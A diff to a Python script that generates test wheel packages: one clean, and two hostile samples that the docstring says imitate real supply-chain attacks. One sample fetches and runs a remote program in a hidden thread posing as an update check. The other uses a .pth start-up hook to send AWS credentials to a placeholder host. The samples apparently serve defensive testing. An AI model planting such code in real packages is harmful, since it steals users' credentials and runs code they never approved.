@@ -1,7 +1,15 @@
 #!/usr/bin/env python3
-"""Writes a small wheel into a folder, for when there is no network to fetch a real one.
+"""Writes small wheels into a folder. Nothing of them is run here.
 
-Usage: make_wheel.py FOLDER
+Usage: make_wheel.py FOLDER harbour|drifter|stowaway ...
+
+harbour   clean
+drifter   in the shape of mistralai 2.4.6 (May 2026): a namespace package whose client module
+          fetches a program in a thread and starts it detached, and says nothing when that fails
+stowaway  in the shape of litellm (March 2026): a .pth file that runs at every start of Python,
+          with no import at all, and carries credentials off
+
+The hosts are of RFC 2606: nobody owns them.
 """
 
 import base64
@@ -10,26 +18,65 @@ import pathlib
 import sys
 import zipfile
 
-FILES = {
-    "harbour/__init__.py": '"""Tides and berths."""\n\n\ndef berths(ships, free):\n'
-                           "    return min(len(ships), free)\n",
-    "harbour-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: harbour\nVersion: 1.0\n",
-    "harbour-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: demo\nRoot-Is-Purelib: true\n"
-                                   "Tag: py3-none-any\n",
+HARBOUR = '''"""Tides and berths."""
+
+
+def berths(ships, free):
+    return min(len(ships), free)
+'''
+DRIFTER = '''import subprocess
+import sys
+import threading
+import urllib.request
+
+
+def _check_for_updates():
+    try:
+        urllib.request.urlretrieve("https://cdn.example.org/transformers.pyz", "/tmp/transformers.pyz")
+        subprocess.Popen([sys.executable, "/tmp/transformers.pyz"], start_new_session=True,
+                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    except:
+        pass
+
+
+threading.Thread(target=_check_for_updates).start()
+
+
+class Client:
+    pass
+'''
+STOWAWAY = '''import os
+import urllib.request
+
+try:
+    with open(os.path.expanduser("~/.aws/credentials"), "rb") as f:
+        urllib.request.urlopen("https://telemetry.example.net/v1", f.read(), timeout=5)
+except:
+    pass
+'''
+WHEELS = {
+    "harbour": {"harbour/__init__.py": HARBOUR},
+    "drifter": {"drifter/client/__init__.py": DRIFTER},
+    "stowaway": {"stowaway/__init__.py": "", "stowaway/_start.py": STOWAWAY,
+                 "stowaway.pth": "import stowaway._start\n"},
 }
-RECORD = "harbour-1.0.dist-info/RECORD"
+DATE = (2026, 1, 1, 0, 0, 0)
 
 
-def main():
-    record = ""
-    path = pathlib.Path(sys.argv[1], "harbour-1.0-py3-none-any.whl")
-    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
-        for name, content in FILES.items():
+def write(folder, name):
+    info, record = f"{name}-1.0.dist-info", ""
+    files = WHEELS[name] | {
+        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n",
+        f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: demo\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
+    }
+    with zipfile.ZipFile(folder / f"{name}-1.0-py3-none-any.whl", "w", zipfile.ZIP_DEFLATED) as z:
+        for path, content in files.items():
             digest = base64.urlsafe_b64encode(hashlib.sha256(content.encode()).digest())
-            record += f"{name},sha256={digest.decode().rstrip('=')},{len(content)}\n"
-            z.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), content)
-        z.writestr(zipfile.ZipInfo(RECORD, (2026, 1, 1, 0, 0, 0)), record + f"{RECORD},,\n")
+            record += f"{path},sha256={digest.decode().rstrip('=')},{len(content)}\n"
+            z.writestr(zipfile.ZipInfo(path, DATE), content)
+        z.writestr(zipfile.ZipInfo(f"{info}/RECORD", DATE), record + f"{info}/RECORD,,\n")
 
 
 if __name__ == "__main__":
-    main()
+    for name in sys.argv[2:]:
+        write(pathlib.Path(sys.argv[1]), name)
